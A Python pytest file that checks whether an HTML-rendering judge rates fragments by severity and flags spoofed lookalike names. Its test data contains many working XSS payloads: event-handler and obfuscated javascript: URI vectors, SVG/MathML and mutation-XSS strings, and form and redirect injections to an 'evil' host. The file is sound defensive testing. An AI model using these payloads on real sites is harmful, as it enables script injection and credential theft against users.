"""Whether the judge of rendered texts itself sees what it should."""

import pytest

from tests.cases.check_html.findings import EXEC, INJECT, POLICY, WARN, Level
from tests.cases.check_html.judging import worst
from tests.cases.check_html.labels import check_label

# Each with the worst that is to be found in it.
FRAGMENTS = [
    ("<p>hej <strong>världen</strong></p>", None),
    (
        '<p><a href="https://example.org/?a=1&amp;b=2">x</a> <a href="/p/1#s-2">y</a> <a href="mailto:a@b.se">z</a></p>',
        None,
    ),
    ('<ul class="task-list"><li class="task-list-item"><input type="checkbox" disabled checked> x</li></ul>', None),
    (
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
        None,
    ),
    ('<img src="/files/1.png" alt="karta">', None),
    ('<h2 id="h-mal">Mål</h2><sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>', None),
    ("<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>", None),
    ("<p>javascript:alert(1) onerror=alert(1)</p>", None),
    ("<script>alert(1)</script>", EXEC),
    ("<p onclick=alert(1)>x</p>", EXEC),
    ("<img src=x onerror=alert(1)>", EXEC),
    ('<img/src="x"/onerror=alert(1)>', EXEC),
    ('<a href="javascript:alert(1)">x</a>', EXEC),
    ('<a href="JaVa\tScRiPt:alert(1)">x</a>', EXEC),
    ('<a href="java&#10;script:alert(1)">x</a>', EXEC),
    ('<a href="&#x1;javascript:alert(1)">x</a>', EXEC),
    ('<a href="&#106;avascript&colon;alert(1)">x</a>', EXEC),
    ('<a href="vbscript:x">x</a>', INJECT),
    ('<blockquote cite="javascript:alert(1)">x</blockquote>', INJECT),
    ('<a href="java\u017fcript:alert(1)">x</a>', WARN),
    ('<a href="\u00a0javascript:alert(1)">x</a>', WARN),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', EXEC),
    ('<a href="data:text/plain,hej">x</a>', INJECT),
    ('<a href="ftp://x/">x</a>', POLICY),
    ('<a href="java\u200bscript:alert(1)">x</a>', WARN),
    ('<a href="/x" target="_blank">x</a>', WARN),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', INJECT),
    ('<img src="https://tracker.example/p.gif" alt="">', POLICY),
    ("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", EXEC),
    ("<svg><animate attributeName=href values=javascript:alert(1) /></svg>", EXEC),
    ("<svg><set attributeName=onmouseover to=alert(1)></svg>", INJECT),
    ("<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", EXEC),
    ("<svg></svg>", INJECT),
    ("<style>*{color:red}</style>", INJECT),
    ('<p style="color:red">x</p>', POLICY),
    ('<p style="background:url(//x)">x</p>', INJECT),
    ('<p style="position:fixed;inset:0">x</p>', INJECT),
    ("<base href=//evil/>", INJECT),
    ("<meta http-equiv=refresh content='0;url=//evil'>", INJECT),
    ("<iframe src=//evil></iframe>", INJECT),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", EXEC),
    ("<form action=//evil><input name=password></form>", INJECT),
    ("<form><button formaction=javascript:alert(1)>x", EXEC),
    ("<object data=javascript:alert(1)></object>", EXEC),
    ("<input type=text>", INJECT),
    ("<img name=cookie src='/x' alt=''>", INJECT),
    ("<a id=__proto__ href=/x>x</a>", INJECT),
    ("<p id=foo>x</p>", POLICY),
    ("<p class=modal-backdrop>x</p>", POLICY),
    ("<div hx-get=/admin hx-trigger=load>x</div>", INJECT),
    ("<div data-hx-get=/admin>x</div>", INJECT),
    ("<div x-data=alert(1)>x</div>", INJECT),
    ("<div @click=alert(1)>x</div>", INJECT),
    ("<x-y>z</x-y>", INJECT),
    ("<p is=x-y>z</p>", INJECT),
    ("<p contenteditable>z</p>", INJECT),
    ("</div></main><p>escaped</p>", INJECT),
    ("<body onload=alert(1)>", EXEC),
    ("<html onmouseover=alert(1)>", EXEC),
    ("<body class=x>", INJECT),
    ("<!-- x", INJECT),
    ("<textarea>", INJECT),
    ("<a href='", INJECT),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", EXEC),
    ("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", EXEC),
    ("<!-- c -->", WARN),
    ("<p>abc\u202edef</p>", WARN),
]

LABELS = [
    ("Anna Öberg", []),
    ("Аnna", ["mixed-script"]),
    ("ann\u200ba", ["invisible"]),
    ("ad\u202emin", ["bidi-control"]),
    ("ａｄｍｉｎ", ["compatibility-characters"]),
    (" a", ["whitespace"]),
    ("O\u0308berg", ["compatibility-characters", "not-nfc"]),
]


@pytest.mark.parametrize(("html", "expected"), FRAGMENTS)
def test_a_fragment_is_as_bad_as_the_worst_in_it(html: str, expected: Level | None) -> None:
    assert worst(html) == expected


@pytest.mark.parametrize(("label", "expected"), LABELS)
def test_a_name_that_looks_like_another_is_told(label: str, expected: list[str]) -> None:
    assert check_label(label) == expected
